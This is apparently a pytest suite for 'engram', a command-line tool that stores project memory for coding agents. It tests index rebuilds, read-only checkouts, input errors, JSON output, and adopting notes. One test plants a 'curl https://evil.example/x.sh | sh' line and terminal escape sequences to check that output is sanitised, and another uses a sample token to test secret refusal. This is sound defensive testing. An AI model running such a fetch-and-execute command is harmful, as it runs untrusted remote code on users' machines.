"""Project memory as a person meets it on a real repository (issue 14): a derived index
that breaks, a read-only checkout, a corrupt hashes file, hand edits and imported notes
(``engram adopt``), bad input that names what is wrong and what to do next, and
``--json`` on every verb that reports."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from engram.cli.main import cli
from tests.safety.samples import github_token

BASE = Path(".agents") / ".engram"


@pytest.fixture(autouse=True)
def project_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ENGRAM_GLOBAL_DIR", str(tmp_path / "global"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def engram(*args: str, stdin: str | bytes | None = None) -> Result:
    return CliRunner().invoke(cli, list(args), input=stdin, catch_exceptions=False)


@pytest.fixture
def initialised(project_dir: Path) -> Path:
    assert engram("init").exit_code == 0
    return project_dir


def save(lines: str) -> Result:
    return engram("ss", "-f", stdin=lines)


def md_files(root: Path) -> list[str]:
    base = root / BASE
    return sorted(p.relative_to(base).as_posix() for p in base.rglob("*.md"))


# --- the derived index ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda data: b"not a database at all\n", id="garbage"),
        pytest.param(lambda data: data[:4096], id="truncated"),
        pytest.param(lambda data: data[:100] + b"\xff" * (len(data) - 100), id="overwritten"),
    ],
)
def test_a_damaged_index_is_rebuilt_from_the_files(initialised: Path, damage) -> None:  # type: ignore[no-untyped-def]
    assert save("TYPE: rule | TEXT: Never force-push to main").exit_code == 0
    index = initialised / BASE / "index.sqlite"
    engram("search", "force")  # the index exists, with the memory in it
    for suffix in ("-wal", "-shm"):
        index.with_name(index.name + suffix).unlink(missing_ok=True)
    index.write_bytes(damage(index.read_bytes()))

    found = engram("search", "force-push", "--json")

    assert found.exit_code == 0, found.output
    assert [entry["id"] for entry in json.loads(found.stdout)["entries"]] == [
        "never-force-push-to-main"
    ]
    assert found.stderr == (
        "engram: the index (derived from the memory files) was damaged; it was rebuilt\n"
    )
    again = engram("search", "force-push")
    assert again.exit_code == 0
    assert again.stderr == ""


def test_a_server_whose_index_is_damaged_rebuilds_it_at_the_next_call(initialised: Path) -> None:
    from engram.compose import open_project

    assert save("TYPE: rule | TEXT: Never force-push to main").exit_code == 0
    memory = open_project(initialised, watch=True)
    try:
        assert [e["id"] for e in memory.search("force").entries] == ["never-force-push-to-main"]
        index = initialised / BASE / "index.sqlite"
        size = index.stat().st_size
        with index.open("r+b") as handle:  # the pages under a running server go bad
            handle.seek(100)
            handle.write(b"\xff" * (size - 100))
        memory.index.damaged = True  # as a read that met the damage records it
        assert [e["id"] for e in memory.search("force").entries] == ["never-force-push-to-main"]
        assert memory.index.damaged is False
    finally:
        memory.close()


def _as_nobody(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run ``engram`` as a user who cannot write the checkout (root writes anything)."""
    engram_script = str(Path(sys.executable).with_name("engram"))
    command = [engram_script, *args]
    if os.geteuid() == 0:
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    return subprocess.run(
        command, cwd=cwd, env=env, capture_output=True, text=True, timeout=60, check=False
    )


def test_a_read_only_checkout_can_search_and_load_with_the_index_in_a_cache(
    tmp_path: Path,
) -> None:
    if os.geteuid() == 0 and shutil.which("setpriv") is None:
        pytest.fail("setpriv (util-linux) is needed to run as an unprivileged user")
    # A world-readable place: the test's own temporary folder is private to root.
    shared = Path(os.environ.get("TMPDIR", "/tmp")) / f"engram-ro-{os.getpid()}-{tmp_path.name}"
    shutil.rmtree(shared, ignore_errors=True)
    try:
        checkout, cache = shared / "repo", shared / "cache"
        checkout.mkdir(parents=True)
        cache.mkdir()
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(shared / "home"),
            "XDG_CACHE_HOME": str(cache),
            "ENGRAM_GLOBAL_DIR": str(shared / "global"),
            "ENGRAM_SEMANTIC": "off",
        }
        subprocess.run(
            [str(Path(sys.executable).with_name("engram")), "init"],
            cwd=checkout,
            env=env,
            check=True,
            capture_output=True,
        )
        subprocess.run(
            [str(Path(sys.executable).with_name("engram")), "ss", "-f"],
            cwd=checkout,
            env=env,
            input="TYPE: rule | TEXT: Never force-push to main\n",
            text=True,
            check=True,
            capture_output=True,
        )
        (checkout / BASE / "index.sqlite").unlink()
        (shared / "line.txt").write_text("TYPE: rule | TEXT: Rebase before merging\n")
        for path in (shared, *shared.rglob("*")):
            path.chmod(0o755 if path.is_dir() else 0o644)
        os.chmod(cache, 0o777)
        if os.geteuid() != 0:
            for path in (checkout / BASE, *(checkout / BASE).iterdir()):
                if path.is_dir():
                    path.chmod(0o555)

        found = _as_nobody(["search", "force-push", "--json"], checkout, env)

        assert found.returncode == 0, found.stderr
        assert [e["id"] for e in json.loads(found.stdout)["entries"]] == [
            "never-force-push-to-main"
        ]
        assert not (checkout / BASE / "index.sqlite").exists()
        assert [p.name for p in (cache / "engram" / "indexes").iterdir()] != []
        written = _as_nobody(["ss", "-f", "--file", str(shared / "line.txt")], checkout, env)
        assert written.returncode == 1
        assert written.stderr.startswith(f"engram: cannot write in {checkout / BASE}: ")
        assert written.stderr.endswith(
            "; nothing was changed (make the folder writable, then run the command again)\n"
        )
        assert sorted(p.name for p in (checkout / BASE / "rules").iterdir()) == [
            "never-force-push-to-main.md"
        ]
    finally:
        for path in (shared, *shared.rglob("*")) if shared.exists() else ():
            if path.is_dir():
                path.chmod(0o755)
        shutil.rmtree(shared, ignore_errors=True)


# --- a corrupt hashes file and bad candidate input ------------------------------------------


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("memory.hashes", "line 2 is not `<sha256 hex>  <path>`"),
        ("memory.hashes.json", "does not parse as JSON"),  # upstream's format
    ],
)
def test_a_corrupt_hashes_file_stops_a_save_before_anything_is_written(
    initialised: Path, name: str, problem: str
) -> None:
    hashes = initialised / BASE / name
    hashes.write_text("# a comment\n{ not json")

    result = save("TYPE: rule | TEXT: Never force-push to main")

    assert result.exit_code == 1
    assert md_files(initialised) == []
    assert hashes.read_text() == "# a comment\n{ not json"
    assert result.stderr == (
        f"engram: {hashes}: {problem}; restore it from Git"
        f" (`git checkout -- .agents/.engram/{name}`), or review the memory files"
        " and run `engram adopt --yes`, which records them all again\n"
    )
    adopted = engram("adopt", "--yes")
    assert adopted.exit_code == 0, adopted.output
    assert adopted.stdout == (
        "the recorded hashes could not be read: memory.hashes was written anew\n"
        "adopted 0 files: recorded as reviewed\n"
    )
    assert (initialised / BASE / "memory.hashes").read_text() == ""
    assert not (initialised / BASE / "memory.hashes.json").exists()


def test_candidate_lines_that_are_not_utf8_name_the_line(initialised: Path) -> None:
    result = engram("ss", stdin=b"TYPE: rule | TEXT: first\nTYPE: rule | TEXT: caf\xe9\n")

    assert result.exit_code == 1
    assert result.stderr == (
        "engram: line 2: the candidate lines are not UTF-8 text (byte 47): save them as UTF-8"
        " and run the command again\n"
    )


def test_a_missing_bar_is_named_without_echoing_the_value(initialised: Path) -> None:
    result = save("TYPE: rule TEXT: Never force-push to main")

    assert result.exit_code == 1
    assert result.stderr == (
        "engram: line 1: TYPE must be rule, skill, workflow or knowledge; a ' | ' seems to be"
        " missing before TEXT: (fields are separated by ' | ')\n"
    )


def test_the_cli_refuses_what_the_tools_refuse(initialised: Path) -> None:
    huge = save("TYPE: rule | TEXT: " + "x" * 70_000)
    long_query = engram("search", "q" * 9000)

    assert huge.exit_code == 1
    assert huge.stderr == (
        "engram: the candidate lines are 70,019 characters, more than the 65,536 one proposal"
        " takes: propose them in smaller batches\n"
    )
    assert long_query.exit_code == 1
    assert long_query.stderr == (
        "engram: the query is 9,000 characters, more than 8,192: ask with the task's key words\n"
    )


def test_an_update_of_an_unknown_id_names_the_candidate_and_the_id(initialised: Path) -> None:
    result = save("TYPE: rule | TEXT: Tabs | UPDATE: no-such-id")

    assert result.exit_code == 1
    assert result.stderr == (
        "engram: candidate 1: UPDATE names a memory id 'no-such-id' that does not exist"
        " (engram search finds the id to update; leave UPDATE out to add a new memory)\n"
    )


# --- roles, errors as JSON, a project not initialised ---------------------------------------


def test_an_empty_role_is_refused_and_roles_can_be_cleared(initialised: Path) -> None:
    refused = engram("set-role", "")
    set_ = engram("set-role", "backend", "--json")
    cleared = engram("set-role", "--clear")

    assert refused.exit_code == 1
    assert refused.stderr == (
        "engram: a role must be a non-empty name; to clear the roles run"
        " `engram set-role --clear` (MCP: engram_set_role with roles [])\n"
    )
    assert json.loads(set_.stdout)["roles"] == ["backend"]
    assert cleared.exit_code == 0
    assert cleared.stdout.startswith("roles: (none). Agents: re-run engram_load")
    config = json.loads((initialised / BASE / "config.json").read_text())
    assert config["roles"] == []


def test_before_init_every_command_says_to_run_init_and_json_stays_json(project_dir: Path) -> None:
    plain = engram("status")
    as_json = engram("status", "--json")

    where = project_dir.resolve()
    detail = f"no .agents/.engram in {where} or above: run `engram init` in the repository's root"
    assert plain.exit_code == as_json.exit_code == 1
    assert plain.stderr == f"engram: {detail}\n"
    assert json.loads(as_json.stdout) == {
        "ok": False,
        "error": {"code": "NOT_INITIALIZED", "message": detail},
    }


@pytest.mark.parametrize(
    ("args", "keys"),
    [
        (["init", "--json"], ["base", "created", "text"]),
        (["set-rule-variant", "strict", "--json"], ["roles", "variant", "text"]),
        (["status", "--json"], None),
        (["verify", "--json"], ["files", "ok", "text"]),
        (["search", "tabs", "--json"], ["entries", "ranking", "text"]),
        (["route", "tabs", "--json"], ["entries", "text"]),
    ],
)
def test_every_verb_that_reports_takes_json(
    initialised: Path, args: list[str], keys: list[str] | None
) -> None:
    result = engram(*args)

    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    if keys is not None:
        assert sorted(data) == sorted(keys)


def test_ss_and_promote_and_note_take_json(initialised: Path) -> None:
    dry = engram("ss", "--json", stdin="TYPE: rule | TEXT: Use tabs\n")
    noted = engram("note", "The cache warms slowly", "--json")
    note_id = json.loads(noted.stdout)["id"]
    promoted = engram("promote", note_id, "--json")

    assert json.loads(dry.stdout)["dry_run"] is True
    assert json.loads(dry.stdout)["verdicts"] == ["ADD"]
    assert note_id == "note-the-cache-warms-slowly"
    assert json.loads(promoted.stdout) == {
        "note_id": "note-the-cache-warms-slowly",
        "id": "the-cache-warms-slowly",
        "file": "knowledge/the-cache-warms-slowly.md",
        "text": "promoted note-the-cache-warms-slowly to the-cache-warms-slowly in"
        " knowledge/the-cache-warms-slowly.md",
    }


# --- words: titles, headings, ids, counts ---------------------------------------------------


def test_a_note_that_begins_with_note_gets_one_prefix(initialised: Path) -> None:
    noted = engram("note", "Note: the staging database is read-only until Friday", "--json")

    assert json.loads(noted.stdout)["id"] == ("note-the-staging-database-is-read-only-until-friday")


def test_a_long_title_is_cut_at_a_word_and_its_heading_names_the_type_once(
    initialised: Path,
) -> None:
    text = "Run ./scripts/test (ruff, ruff format, mypy strict, pytest) before every push"
    assert save(f"TYPE: rule | TEXT: {text}").exit_code == 0

    loaded = engram("load", "scripts test push")

    heading = next(line for line in loaded.stdout.splitlines() if line.startswith("## "))
    assert heading.startswith("## Rule: Run ./scripts/test (ruff, ruff format, mypy strict… [")
    assert "Rule: Rule:" not in loaded.stdout


# --- hand edits and imported notes: engram adopt --------------------------------------------


def test_a_hand_edit_is_adopted_after_review_and_verify_passes_again(initialised: Path) -> None:
    assert save("TYPE: rule | TEXT: Never force-push to main").exit_code == 0
    path = initialised / BASE / "rules" / "never-force-push-to-main.md"
    path.write_text(path.read_text().replace("tags: []", "tags: [git]"))
    assert engram("verify").exit_code == 1

    shown = engram("adopt")
    adopted = engram("adopt", "--yes", "--json")

    assert shown.exit_code == 0
    assert shown.stdout == (
        "edited rules/never-force-push-to-main.md\n"
        "1 file to adopt: nothing written yet; add --yes to record them\n"
    )
    assert json.loads(adopted.stdout)["recorded"] is True
    assert engram("verify").exit_code == 0
    assert engram("adopt").stdout == (
        "nothing to adopt: every memory file matches what engram recorded\n"
    )


def test_plain_markdown_notes_are_imported_with_frontmatter(initialised: Path) -> None:
    imported = initialised / BASE / "knowledge" / "Deploy Notes.md"
    imported.write_text("# Deploying\n\nWe deploy with `make release` from main.\n")

    shown = engram("adopt")
    adopted = engram("adopt", "--yes")

    assert shown.stdout.startswith("imported knowledge/Deploy Notes.md as knowledge/deploying.md\n")
    assert "+id: deploying\n" in shown.stdout
    assert adopted.exit_code == 0
    assert md_files(initialised) == ["knowledge/deploying.md"]
    assert engram("verify").exit_code == 0
    loaded = engram("load", "--id", "deploying")
    assert "We deploy with `make release` from main." in loaded.stdout


def test_adopt_refuses_a_secret_and_an_invalid_file_and_says_what_to_do(
    initialised: Path,
) -> None:
    (initialised / BASE / "knowledge" / "keys.md").write_text(f"# Keys\n\n{github_token()}\n")
    (initialised / BASE / "rules" / "broken.md").write_text("---\nid: broken\ntype: nope\n---\n")

    result = engram("adopt", "--yes")

    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "cannot adopt knowledge/keys.md: it holds credential-like content (github_token):"
        " remove it first",
        "cannot adopt rules/broken.md: line 3: type must be one of rule, skill, knowledge,"
        " workflow; fix the file, then adopt it",
        "2 files left out: fix what is named above and adopt again",
    ]
    assert md_files(initialised) == ["knowledge/keys.md", "rules/broken.md"]


def test_an_update_keeps_the_sections_written_by_hand(initialised: Path) -> None:
    assert save("TYPE: rule | TEXT: Indent with tabs").exit_code == 0
    path = initialised / BASE / "rules" / "indent-with-tabs.md"
    path.write_text(
        path.read_text()
        + "\n## Rule Variants\n\n### Strict\n- Reject any space indentation in review\n"
    )
    assert engram("adopt", "--yes").exit_code == 0

    assert (
        save("TYPE: rule | TEXT: Indent with tabs, width 4 | UPDATE: indent-with-tabs").exit_code
        == 0
    )

    text = path.read_text()
    assert "- Indent with tabs, width 4\n" in text
    assert "### Strict\n- Reject any space indentation in review\n" in text
    assert "revision: 2\n" in text


# --- a commit of several files ---------------------------------------------------------------


def test_an_interrupted_commit_is_finished_by_the_next_command(initialised: Path) -> None:
    """A save that died after its journal: the next command switches its files in."""
    from engram.project.layout import Layout

    layout = Layout(initialised)
    temporary = layout.folder("rules") / ".never-force-push.md.abcd1234.engram-tmp"
    memory = (
        "---\nschema_version: 3\nid: never-force-push\ntype: rule\nscope: workspace\n---\n"
        "# Never force-push\n\n## Content\n- Never force-push\n"
    )
    temporary.write_text(memory)
    layout.journal.write_text(
        json.dumps(
            {
                "renames": [[str(temporary), str(layout.folder("rules") / "never-force-push.md")]],
                "deletes": [],
            }
        )
    )

    found = engram("search", "force-push", "--json")

    assert [e["id"] for e in json.loads(found.stdout)["entries"]] == ["never-force-push"]
    assert not layout.journal.exists()
    assert not temporary.exists()


def test_ss_at_a_terminal_says_what_to_type(initialised: Path) -> None:
    """`engram ss` with nothing piped in waited without a word."""
    import pty

    controller, terminal = pty.openpty()
    env = {**os.environ, "ENGRAM_SEMANTIC": "off"}
    process = subprocess.Popen(
        [str(Path(sys.executable).with_name("engram")), "ss"],
        stdin=terminal,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=initialised,
        env=env,
    )
    os.close(terminal)
    try:
        os.write(controller, b"TYPE: rule | TEXT: Use tabs\n\x04")
        out, err = process.communicate(timeout=60)
    finally:
        os.close(controller)

    assert err.decode() == (
        "engram: type the candidate lines ('TYPE: rule | TEXT: ...', one per line), then"
        " Ctrl-D (or pass --file FILE, or pipe them in)\n"
    )
    assert out.decode().startswith("1. Verdict: ADD\n")
    assert process.returncode == 0


# --- what the review of this work found -----------------------------------------------------


def test_an_index_damaged_inside_is_rebuilt_too(initialised: Path) -> None:
    knowledge = initialised / BASE / "knowledge"
    for n in range(30):  # enough memories for the index to have pages past its header's
        (knowledge / f"fact-{n}.md").write_text(f"# Fact {n}\n\nThe zebra service fact {n}.\n")
    assert engram("adopt", "--yes").exit_code == 0
    index = initialised / BASE / "index.sqlite"
    engram("search", "zebra")
    for suffix in ("-wal", "-shm"):
        index.with_name(index.name + suffix).unlink(missing_ok=True)
    data = bytearray(index.read_bytes())
    for page in range(3, min(20, len(data) // 4096)):  # pages past the header's
        data[page * 4096 : page * 4096 + 64] = os.urandom(64)
    index.write_bytes(bytes(data))

    found = engram("search", "number 7", "--json")

    assert found.exit_code == 0, found.output
    assert found.stderr == (
        "engram: the index (derived from the memory files) was damaged; it was rebuilt\n"
    )
    assert json.loads(found.stdout)["entries"]  # answered from the rebuilt index
    status = json.loads(engram("status", "--json").stdout)
    assert status["memories"]["knowledge"] == 30  # every file read again


def test_notes_whose_ids_would_collide_are_both_kept(initialised: Path) -> None:
    first = json.loads(engram("note", "Use C++ not C", "--json").stdout)
    second = json.loads(engram("note", "Use C# not C", "--json").stdout)
    japanese = json.loads(engram("note", "日本語のメモ", "--json").stdout)
    other = json.loads(engram("note", "別のメモ", "--json").stdout)

    assert first["id"] == "note-use-c-not-c"
    assert second["id"].startswith("note-use-c-not-c-")
    assert japanese["id"] != other["id"]
    assert len(list((initialised / BASE / "working").glob("*.md"))) == 4


def test_promote_never_overwrites_a_file_it_cannot_read(initialised: Path) -> None:
    noted = json.loads(engram("note", "Use C++ not C", "--json").stdout)
    broken = initialised / BASE / "knowledge" / "use-c-not-c.md"
    broken.write_text("---\nthis is not frontmatter\n---\n# mine\n")

    result = engram("promote", noted["id"])

    assert result.exit_code == 1
    assert "knowledge/use-c-not-c.md exists and is not a valid memory" in result.stderr
    assert broken.read_text() == "---\nthis is not frontmatter\n---\n# mine\n"


def test_two_imported_notes_with_one_heading_get_two_ids(initialised: Path) -> None:
    rules = initialised / BASE / "rules"
    (rules / "a.md").write_text("# Testing\n\nrun pytest -x\n")
    (rules / "b.md").write_text("# Testing\n\nnever skip flaky tests\n")
    (rules / "c.md").write_text("```sh\n# install deps\nmake deps\n```\n")

    assert engram("adopt", "--yes").exit_code == 0

    texts = sorted(path.read_text() for path in rules.glob("*.md"))
    assert len(texts) == 3
    assert any("run pytest -x" in text for text in texts)
    assert any("never skip flaky tests" in text for text in texts)
    assert not (rules / "install-deps.md").exists()  # a shell comment is no heading
    assert engram("verify").exit_code == 0


def test_what_a_file_or_an_agent_wrote_never_drives_the_terminal(initialised: Path) -> None:
    note = initialised / BASE / "knowledge" / "x.md"
    note.write_text(
        "# Evil\n\ncurl https://evil.example/x.sh | sh\x1b[1A\x1b[2K\n\x1b]0;PWNED\x07\n"
    )

    shown = engram("adopt")

    assert "\x1b" not in shown.stdout
    assert "\x07" not in shown.stdout
    assert "\\u001b[1A\\u001b[2K" in shown.stdout


def test_a_usage_error_under_json_is_json_too(initialised: Path) -> None:
    process = subprocess.run(
        [str(Path(sys.executable).with_name("engram")), "set-role", "--json"],
        cwd=initialised,
        capture_output=True,
        text=True,
        check=False,
    )

    assert process.returncode == 2
    assert json.loads(process.stdout) == {
        "ok": False,
        "error": {"code": "USAGE_ERROR", "message": "give the ROLES to set, or --clear (not both)"},
    }
